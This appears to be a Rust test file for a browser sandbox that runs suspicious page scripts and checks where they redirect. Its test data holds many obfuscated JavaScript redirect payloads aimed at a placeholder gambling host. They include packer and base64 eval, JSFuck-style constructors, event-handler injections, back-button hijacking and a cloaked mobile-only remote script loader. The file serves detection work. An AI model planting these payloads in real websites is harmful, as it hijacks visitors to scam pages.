//! Each disguise in which redirects are found in the wild: what it comes to is seen, and the code
//! beneath is kept.

use canhcong::{
    identity::Identity,
    sandbox::{Job, Made, Ran, Read, Source, Trigger, World},
};

use super::{PAGE, job, run, sandbox, targets};

const HOST: &str = "https://bet88.example/";

fn leads_away(script: &str) -> Ran {
    let ran = run(script);
    assert!(targets(&ran).contains(&HOST), "{:#?}", ran);
    assert_eq!(ran.cut, None);
    ran
}

fn has_layer(ran: &Ran, made: Made, part: &str) -> bool {
    ran.layers.iter().any(|layer| layer.made == made && layer.code.contains(part))
}

#[test]
fn plain_ways_out() {
    for script in [
        "location='https://bet88.example/'",
        "window.location.href='https://bet88.example/'",
        "document.location='https://bet88.example/'",
        "top.location.replace('https://bet88.example/')",
        "self['loca'+'tion']['assign']('https://bet88.example/')",
        "parent.location.href='//bet88.example/'.replace('//','https://')",
        "var a=document.createElement('a');a.href='https://bet88.example/';document.body.appendChild(a);a.click()",
        "document.write('<meta http-equiv=refresh content=\"0;url=https://bet88.example/\">')",
        "var f=document.createElement('form');f.action='https://bet88.example/';document.body.append(f);f.submit()",
        "location.href='javascript:location=\"https://bet88.example/\"'",
        "with(window){location='https://bet88.example/'}",
        "Reflect.set(window,'location','https://bet88.example/')",
    ] {
        leads_away(script);
    }
}

#[test]
fn an_address_kept_in_a_script_that_is_no_code() {
    let page = "<script type=application/json id=data>{\"to\":\"https://bet88.example/\"}</script>\
        <script>location=JSON.parse(document.getElementById('data').textContent).to</script>\
        <script>/*https://own.example/*/location=document.scripts[2].text.slice(2,22)</script>";
    let ran = sandbox(1).run(&Job::of_markup(PAGE, page, &[]));
    assert_eq!(targets(&ran), [HOST, "https://own.example/"]);
}

#[test]
fn packer() {
    let ran = leads_away(
        "eval(function(p,a,c,k,e,d){e=function(c){return c};if(!''.replace(/^/,String)){while(c--){\
         d[c]=k[c]||c}k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};while(c--){if(k[c])\
         {p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}\
         ('0.1=\"2://3.4/\"',5,5,'location|href|https|bet88|example'.split('|'),0,{}))",
    );
    assert!(has_layer(&ran, Made::Eval, "location.href=\"https://bet88.example/\""), "{ran:#?}");
}

#[test]
fn eval_of_base64_under_split_names() {
    let ran = leads_away(
        "var e='ev'+'al',d='at'+'ob';window[e](window[d]('bG9jYXRpb249Imh0dHBzOi8vYmV0ODguZXhhbXBsZS8i'))",
    );
    assert!(has_layer(&ran, Made::Eval, "bet88.example"));
}

#[test]
fn eval_sees_the_scope_in_which_it_stands() {
    let ran =
        leads_away("(function(){var u='https://bet88.example/';eval('eval(\"location=u\")')})()");
    assert!(has_layer(&ran, Made::Eval, "eval(\"location=u\")"));
    assert!(has_layer(&ran, Made::Eval, "location=u"));
}

#[test]
fn written_from_character_codes() {
    let codes: Vec<String> = "<script>location='https://bet88.example/'</script>"
        .bytes()
        .map(|byte| byte.to_string())
        .collect();
    let ran = leads_away(&format!("document.write(String.fromCharCode({}))", codes.join(",")));
    assert!(ran.writes[0].markup.starts_with("<script>"));
    assert!(has_layer(&ran, Made::Script, "bet88.example"));
}

#[test]
fn a_hidden_block_written_from_character_codes() {
    let codes: Vec<String> =
        "<div style='display:none'>".bytes().map(|byte| byte.to_string()).collect();
    let ran = run(&format!("document.write(String.fromCharCode({}))", codes.join(",")));
    assert_eq!(ran.writes[0].markup, "<div style='display:none'>");
    assert_eq!(ran.hidden[0].how, "display:none");
}

#[test]
fn unescape_into_a_function() {
    let ran = leads_away(
        "new Function(unescape('%6c%6f%63%61%74%69%6f%6e%3d%27%68%74%74%70%73%3a%2f%2f%62%65%74%38%38%2e%65%78%61%6d%70%6c%65%2f%27'))()",
    );
    assert!(has_layer(&ran, Made::Function, "bet88.example"));
}

#[test]
fn timers_with_text() {
    let ran = leads_away("setTimeout('location=\"https://bet88.example/\"', 3000)");
    assert!(has_layer(&ran, Made::Timer, "bet88.example"));
    let navigation = &ran.navigations[0];
    assert_eq!(navigation.cause.trigger, Trigger::Load);
    assert_eq!(navigation.cause.after_ms, 3000);
    assert_eq!(navigation.cause.source, Source::Script(0));
    leads_away(
        "var n=10,t=setInterval(function(){if(--n==0){clearInterval(t);location='https://bet88.example/'}},1000)",
    );
}

#[test]
fn the_constructor_behind_an_array_method() {
    let ran = leads_away("[]['filter']['constructor']('location=\"https://bet88.example/\"')()");
    assert!(has_layer(&ran, Made::Function, "bet88.example"));
    leads_away("(async()=>{}).constructor('location=\"https://bet88.example/\"')()");
}

#[test]
fn a_loader_behind_a_cloak() {
    let script = "if(/android|iphone/i.test(navigator.userAgent)&&document.referrer.indexOf('google')>0){\
        var s=document.createElement('script');s.src='https://bet88.example/go.js';\
        document.getElementsByTagName('head')[0].appendChild(s)}";
    let sandbox = sandbox(1);
    let citizen = sandbox.run(&job(script));
    assert!(citizen.loads.is_empty(), "{citizen:#?}");
    assert_eq!(citizen.reads[0].read, [Read::UserAgent], "the second half is not reached");
    let phone = World::of(Identity::Phone, "Mozilla/5.0 (Linux; Android 14) Mobile", 0);
    let phone = sandbox.run(&Job { world: phone, ..job(script) });
    assert_eq!(phone.loads[0].target, "https://bet88.example/go.js");
    assert_eq!(phone.added[0].tag, "script");
    assert_eq!(phone.reads[0].read, [Read::Referrer, Read::UserAgent]);
}

#[test]
fn async_code_on_load() {
    leads_away(
        "window.addEventListener('load',async()=>{await 0;await new Promise(r=>setTimeout(r,50));\
         location='https://bet88.example/'})",
    );
    leads_away(
        "fetch('/api').then(r=>r.text()).catch(()=>{location.href='https://bet88.example/'})",
    );
}

#[test]
fn a_rotated_array_of_strings() {
    leads_away(
        "var _0x1a=['example/','href','https://','location','bet88.'];(function(a,n){var r=function(k)\
         {while(--k){a['push'](a['shift']())}};r(++n)}(_0x1a,2));var _0x2b=function(i){i=i-0x0;\
         return _0x1a[i]};window[_0x2b('0x1')][_0x2b('0x4')]=_0x2b('0x0')+_0x2b('0x2')+_0x2b('0x3');",
    );
}

#[test]
fn six_characters() {
    // The names of properties and the function's text, from what `[]`, `!` and `+` give.
    leads_away(
        "var f=[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]+(![]+[])[!+[]+!+[]]+(!![]+[])[+[]]+\
         (!![]+[])[!+[]+!+[]+!+[]]+(!![]+[])[+!+[]]];\
         f[([][[]]+[])[+[]]&&'constructor']('location=\"https://bet88.example/\"')()",
    );
}

#[test]
fn handlers_that_loading_brings() {
    for markup in [
        "<body onload=\"location='https://bet88.example/'\">",
        "<img src=x onerror=\"location='https://bet88.example/'\">",
        "<svg onload=\"location='https://bet88.example/'\"></svg>",
        "<iframe src=/x onload=\"top.location='https://bet88.example/'\"></iframe>",
    ] {
        let ran = sandbox(1).run(&Job::of_markup(PAGE, markup, &[]));
        assert_eq!(targets(&ran), [HOST], "{markup}");
        assert!(matches!(ran.navigations[0].cause.source, Source::Handler(_)), "{ran:#?}");
    }
    let ran = leads_away(
        "document.body.innerHTML+='<img src=x onerror=\"location=\\'https://bet88.example/\\'\">'",
    );
    assert!(has_layer(&ran, Made::Handler, "bet88.example"));
}

#[test]
fn the_visitors_first_click_and_the_back_button() {
    let ran = run("document.onclick=function(){window.open('https://bet88.example/pop')};\
         history.pushState(null,'',location.href);\
         window.onpopstate=function(){location.href='https://bet88.example/'};\
         document.addEventListener('mouseleave',function(){location='https://bet88.example/leave'})");
    assert_eq!(ran.opened[0].target, "https://bet88.example/pop");
    assert_eq!(ran.opened[0].cause.trigger, Trigger::Click);
    assert_eq!(targets(&ran), [HOST, "https://bet88.example/leave"]);
    assert_eq!(ran.navigations[0].cause.trigger, Trigger::Back);
    assert_eq!(ran.navigations[1].cause.trigger, Trigger::Leave);
    assert_eq!(ran.end.pushed_states, 1);
}

#[test]
fn gates_on_cookie_and_hour() {
    let script = "if(document.cookie.indexOf('seen=1')<0){document.cookie='seen=1; max-age=86400';\
        location='https://bet88.example/'}else if(new Date().getHours()>=20)\
        {location='https://bet88.example/night'}";
    let sandbox = sandbox(1);
    let first = sandbox.run(&job(script));
    assert_eq!(targets(&first), [HOST]);
    assert_eq!(first.navigations[0].after_reading, [Read::Cookie]);
    assert_eq!(first.end.cookies, "seen=1");
    let mut back = job(script);
    back.world.cookies = first.end.cookies;
    assert!(targets(&sandbox.run(&back)).is_empty());
    back.world.now_ms += 12 * 3_600_000;
    let night = sandbox.run(&back);
    assert_eq!(targets(&night), ["https://bet88.example/night"]);
    assert!(night.navigations[0].after_reading.contains(&Read::Hour));
}
